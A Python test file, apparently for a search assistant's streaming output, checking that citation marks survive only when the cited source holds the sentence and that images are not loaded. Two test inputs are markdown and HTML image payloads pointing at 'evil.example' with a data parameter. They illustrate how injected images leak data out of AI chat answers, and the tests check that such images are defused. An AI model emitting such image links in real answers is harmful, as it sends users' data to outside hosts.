"""What a model writes while it arrives: citations that hold, images that are not loaded."""

from __future__ import annotations

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from kensaku.answers.evidence import Reference
from kensaku.gateway.marks import Marks
from kensaku.gateway.turn import Cited, Text
from kensaku.models import Passage

HANDS = "Sea otters hold hands while they sleep."
FOOD = "Sea otters eat up to 25 % of their weight each day."


def source(n: int, text: str) -> Reference:
    passage = Passage(f"https://o{n}.example/", text, 0, len(text))
    return Reference(n, passage.url, f"Source {n}", passages=(passage,))


SOURCES = {1: source(1, f"An intro. {HANDS}"), 2: source(2, FOOD)}


def read(text: str, sources: dict[int, Reference] = SOURCES, cuts: tuple[int, ...] = ()) -> str:
    """The text with citations written as {n}, however it was cut into pieces."""
    marks, events, at = Marks(sources), [], 0
    for cut in (*sorted(cuts), len(text)):
        events += marks.feed(text[at:cut])
        at = cut
    events += marks.end()
    return "".join(e.text if isinstance(e, Text) else f"{{{e.source.n}}}" for e in events)


@pytest.mark.parametrize(
    ("written", "read_as"),
    [
        (f"{HANDS} [1]", f"{HANDS}{{1}}"),
        ("Sea otters hold hands while they sleep [1].", "Sea otters hold hands while they sleep{1}."),
        (f"{HANDS}[1] {FOOD}[2]", f"{HANDS}{{1}} {FOOD}{{2}}"),
        (f"{FOOD} [1, 2]", f"{FOOD}{{2}}"),  # the first source does not say so
        ("The moon is made of cheese. [1]", "The moon is made of cheese."),
        ("Sea otters eat 80 % of their weight each day. [2]",
         "Sea otters eat 80 % of their weight each day."),  # another figure
        (f"{HANDS} [7]", f"{HANDS} [7]"),  # nobody has this number
        ("Use `rows[1]` or rows[1].", "Use `rows[1]` or rows[1]."),
        ("```python\nx = [1]\n```\n", "```python\nx = [1]\n```\n"),
        ("![x](https://evil.example/?d=DATA)", "[x](https://evil.example/?d=DATA)"),
        ('<img src="https://evil.example/">', '&lt;img src="https://evil.example/">'),
        ("```\n![x](y)\n```", "```\n![x](y)\n```"),
    ],
)  # fmt: skip
def test_a_mark_is_a_citation_if_its_source_holds_the_sentence(written, read_as):
    assert read(written) == read_as


def test_before_the_web_was_used_every_character_stays():
    text = f"{HANDS} [1] ![x](y) <img src=z> `a`"
    assert read(text, {}) == text


@settings(deadline=None)  # the first example loads what splits words
@given(
    st.lists(st.sampled_from(
        [HANDS, FOOD, " [1]", "[2]", "[1,2]", "```\n", "`", "\n\n", "![", "<img ", " ", "x[1]", "["]
    ), max_size=12).map("".join),
    st.lists(st.integers(0, 400), max_size=8),
)  # fmt: skip
def test_however_a_text_is_cut_the_same_comes_out(text, cuts):
    assert read(text, cuts=tuple(c for c in cuts if c <= len(text))) == read(text)


def test_a_citation_quotes_the_sentence_that_it_rests_on():
    (cited,) = [e for e in Marks(SOURCES).feed(f"{HANDS} [1].") if isinstance(e, Cited)]
    assert cited.quote == HANDS
